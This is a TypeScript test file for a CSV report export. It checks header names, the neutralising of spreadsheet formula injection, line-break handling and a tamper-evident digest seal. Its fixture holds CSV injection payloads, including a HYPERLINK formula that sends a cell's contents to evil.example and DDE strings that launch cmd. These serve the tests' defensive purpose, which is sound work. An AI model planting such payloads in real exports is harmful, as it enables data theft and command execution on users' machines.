/**
 * The CSV export: one row per item, header names from DESIGN, every cell that a
 * spreadsheet would run as a formula neutralised, and a seal that a changed figure breaks.
 */
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { importBundle } from "@/db/import-bundle";
import { openDatabase, type Db } from "@/db/index";
import { getWeeklyReport } from "@/db/queries/get-weekly-report";
import { readReportFile } from "@/lib/report/read-report-file";
import { toCsv } from "@/lib/csv/to-csv";
import { sha256Hex } from "@/lib/report/report-digest";
import { csvWithDigest, fillSealedCsv, parseCsv, readCsvSeal, renderReportCsv, SEALED_CSV_COLUMNS } from "@/lib/report/render-csv";
import type { ReportStamp } from "@/lib/report/report-stamp";

const NOW = Date.parse("2026-11-27T08:00:00Z");

/** Stored text that a spreadsheet would otherwise run: every trigger character of OWASP's list. */
const HOSTILE = {
  title: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  area: "+cmd|' /C calc'!A0",
  team: "-2+3",
  ownerName: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: "\t=1+1",
  cr: "\r=1+1",
};

function hostileBundle(slug: string) {
  const people = [
    { email: "eve@example.com", name: HOSTILE.ownerName, team: HOSTILE.team },
    { email: "rev@example.com", name: "Reviewer", team: "" },
  ];
  return {
    format: "offload-tracker/v1",
    program: { slug, name: "=Program" },
    people,
    items: [
      { key: "X1", title: HOSTILE.title, area: HOSTILE.area, owner: "eve@example.com", team: HOSTILE.team, estimateWeeks: 2, identifiedAt: "2024-01-01" },
      { key: "X2", title: `Line one\nline two, "quoted"`, area: "Plain", owner: null, team: "", estimateWeeks: 1.5, identifiedAt: "2024-01-01", dependsOn: ["X1"] },
      { key: "X3", title: `ok ${HOSTILE.tab}`, area: "Plain", owner: null, team: "", estimateWeeks: 1, identifiedAt: "2024-01-01" },
    ],
  };
}

let db: Db;
beforeAll(async () => {
  db = await openDatabase(":memory:");
  await importBundle(db, hostileBundle("csv-hostile"), { actor: null });
});
afterAll(() => db.$client.close());

const csvOf = async (week = "2024-W52") => renderReportCsv((await getWeeklyReport(db, "csv-hostile", week, NOW)).report);

describe("report CSV", () => {
  it("has DESIGN's header names and one row per item", async () => {
    const [header, ...rows] = parseCsv(await csvOf());
    expect(header).toEqual([...SEALED_CSV_COLUMNS]);
    expect(header!.slice(0, 10)).toEqual(["key", "title", "area", "owner", "ownerName", "team", "estimateWeeks", "trueStatus", "reportedStatus", "blocked"]);
    expect(rows.map((r) => r[0])).toEqual(["X1", "X2", "X3"]);
    expect(rows.every((r) => r.length === SEALED_CSV_COLUMNS.length)).toBe(true);
  });

  it("neutralises cells that begin with = + - @ tab or CR", async () => {
    const text = await csvOf();
    const [header, x1] = parseCsv(text);
    const cell = (name: string) => x1![header!.indexOf(name)]!;
    expect(cell("title")).toBe(`'${HOSTILE.title}`);
    expect(cell("area")).toBe(`'${HOSTILE.area}`);
    expect(cell("team")).toBe(`'${HOSTILE.team}`);
    expect(cell("ownerName")).toBe(`'${HOSTILE.ownerName}`);
    for (const row of parseCsv(text)) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("neutralises every hostile cell, whatever its text (property)", async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom("=", "+", "-", "@", "\t", "\r"), fc.string({ maxLength: 20 }), async (lead, rest) => {
        const local = await openDatabase(":memory:");
        try {
          const b = hostileBundle("csv-prop");
          b.items[0]!.title = `${lead}${rest}`.trim() === "" ? `${lead}x` : `${lead}${rest}x`;
          b.items[0]!.area = `${lead}area`;
          await importBundle(local, b, { actor: null });
          const rows = parseCsv(renderReportCsv((await getWeeklyReport(local, "csv-prop", "2024-W52", NOW)).report));
          for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
        } finally {
          local.$client.close();
        }
      }),
      { numRuns: 25 },
    );
  });

  it("keeps a stored line break inside its row", async () => {
    const rows = parseCsv(await csvOf());
    expect(rows).toHaveLength(4);
    expect(rows[2]![1]).toBe(`Line one line two, "quoted"`);
  });

  it("carries program, week, log head and its own digest on every row", async () => {
    const seal = readCsvSeal(await csvOf())!;
    expect(seal).toMatchObject({ program: "csv-hostile", week: "2024-W52", consistent: true });
    expect(seal.sha256).toBe(seal.computed);
    expect(seal.logHeadAtCutoff).toMatch(/^[0-9a-f]{64}$/);
  });

  it("a changed figure breaks the seal", async () => {
    const text = await csvOf();
    const changed = text.replace(/,2,not_started,/, ",3,not_started,");
    expect(changed).not.toBe(text);
    const seal = readReportFile(changed)!;
    expect(seal.format).toBe("csv");
    expect(seal.sealIntact).toBe(false);
    expect(readReportFile(text)!.sealIntact).toBe(true);
  });

  it("still reads its seal when an editor turned its line ends into LF, all or some", async () => {
    const text = await csvOf();
    const lf = text.replace(/\r\n/g, "\n");
    const mixed = text.slice(0, text.length / 2) + text.slice(text.length / 2).replace(/\r\n/g, "\n");
    for (const edited of [lf, mixed]) {
      expect(edited).not.toBe(text);
      expect(readReportFile(edited)).toMatchObject({ format: "csv", sealIntact: true });
    }
  });

  it("reads a stray quote as text, so the edited file breaks its seal instead of not being a report; an unclosed quote is not CSV", async () => {
    const text = await csvOf();
    const strayQuote = text.replace(/,2,not_started,/, ',2",not_started,');
    expect(strayQuote).not.toBe(text);
    expect(readReportFile(strayQuote)).toMatchObject({ format: "csv", sealIntact: false });
    expect(readCsvSeal(`${text}"unclosed,`)).toBeNull();
  });

  it("writes the bytes of a second rendering with the digest and stamp, without rendering the rows again (property)", async () => {
    const stamps = fc.oneof(
      fc.constant(null),
      fc.record({ version: fc.constant("draft" as const), generatedAt: fc.constant("2026-11-27T08:00:00.000Z"), published: fc.constant(null) }),
      fc.record({
        version: fc.constant("published" as const),
        publishedAt: fc.constant("2026-11-27T08:00:00.000Z"),
        // A name with the characters that make csv-stringify quote a cell, or start a formula.
        publishedBy: fc.option(fc.string({ unit: fc.constantFrom("a", ",", '"', "=", " ", "é") }), { nil: null }),
        sha256: fc.constant("a".repeat(64)),
        illustrative: fc.option(fc.record({ factsUntil: fc.constant("2024-06-30") }), { nil: undefined }),
      }),
    );
    const { report } = await getWeeklyReport(db, "csv-hostile", "2024-W52", NOW);
    const sealed = csvWithDigest(report, "");
    const digest = sha256Hex(sealed);
    fc.assert(
      fc.property(stamps, (stamp) => {
        const s = stamp as ReportStamp | null;
        expect(fillSealedCsv(sealed, report.items.length, digest, s)).toBe(csvWithDigest(report, digest, s));
        expect(renderReportCsv(report, s)).toBe(csvWithDigest(report, digest, s));
      }),
    );
  });

  it("renders the rows again when a cell holds a line break, so that lines are not records", () => {
    const sealed = toCsv(["title", "reportSha256"], [{ title: "one\r\ntwo", reportSha256: "" }]);
    expect(sealed).toBe('title,reportSha256\r\n"one\r\ntwo",\r\n');
    expect(fillSealedCsv(sealed, 1, "d".repeat(64), null)).toBeNull();
    const plain = toCsv(["title", "reportSha256"], [{ title: "one two", reportSha256: "" }]);
    expect(fillSealedCsv(plain, 1, "d".repeat(64), null)).toBe(`title,reportSha256\r\none two,${"d".repeat(64)}\r\n`);
  });

  it("parses what csv-stringify writes, back to the same cells (property)", () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: fc.constantFrom("a", ",", '"', "\r\n", " ", "é", "'") }), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const width = rows[0]!.length;
        const rect = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ""));
        // A lone empty cell on a line is an empty line: give every row a non-empty first cell.
        const safe = rect.map((r) => ["k", ...r]);
        expect(parseCsv(stringify(safe, { record_delimiter: "\r\n", quoted_match: /\r|\n/ }))).toEqual(safe);
      }),
    );
  });
});
